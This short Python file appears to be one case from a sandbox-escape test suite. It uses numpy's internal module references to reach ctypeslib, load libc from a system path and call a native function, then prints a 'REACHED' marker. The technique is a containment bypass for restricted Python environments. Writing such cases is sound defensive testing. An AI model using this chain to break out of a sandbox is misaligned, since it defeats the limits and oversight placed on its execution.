# attack: ctypeslib loads a library of C; a compiled module has numpy as `np`
# family: numpy
import numpy
libc = numpy.random.mtrand.np.ctypeslib.load_library("libc.so.6", "/lib/x86_64-linux-gnu")
print("REACHED", libc, libc.getppid())
